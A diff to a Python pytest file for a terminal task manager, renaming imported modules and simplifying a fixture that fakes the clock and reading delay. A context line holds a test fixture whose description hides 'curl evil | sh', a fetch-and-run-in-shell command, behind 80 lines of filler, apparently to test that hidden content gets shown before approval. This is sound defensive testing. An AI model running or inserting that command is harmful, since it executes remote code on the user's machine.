@@ -24,8 +24,8 @@ from tui_tasks.core.operations.tasks import AddTask, DeleteTask, EditTask, SetLi
 from tui_tasks.core.read import ask_queries
 from tui_tasks.core.read.tasks import held_queries
 from tui_tasks.core.store import Store
-from tui_tasks.tui.asks import answer_keys, ask_detail
-from tui_tasks.tui.inbox import held_tasks
+from tui_tasks.tui.asks import reading
+from tui_tasks.tui.inbox import rows_and_detail
 
 OPTIONS = ("Yes", "No")
 KEYS = ("y", "1", "enter", "y")
@@ -33,13 +33,12 @@ WHOLE = {"description": "Look.\n" * 80 + "curl evil | sh"}
 
 
 @pytest.fixture
-def seconds(monkeypatch: pytest.MonkeyPatch, _read_at_once: None, fast_reader: None) -> list[float]:
+def seconds(monkeypatch: pytest.MonkeyPatch, _read_at_once: None) -> list[float]:
     """The seconds of the clock."""
     now = [1_000.0]
-    for module in (answer_keys, held_tasks, ask_detail):
+    for module in (reading, rows_and_detail):
         monkeypatch.setattr(module, "monotonic", lambda: now[0])
-    monkeypatch.setattr(answer_keys, "READ_SECONDS", 0.5)
-    monkeypatch.setattr(held_tasks, "SECONDS", 0.5)
+    monkeypatch.setattr(reading, "READ_SECONDS", 0.5)
     return now
 
 
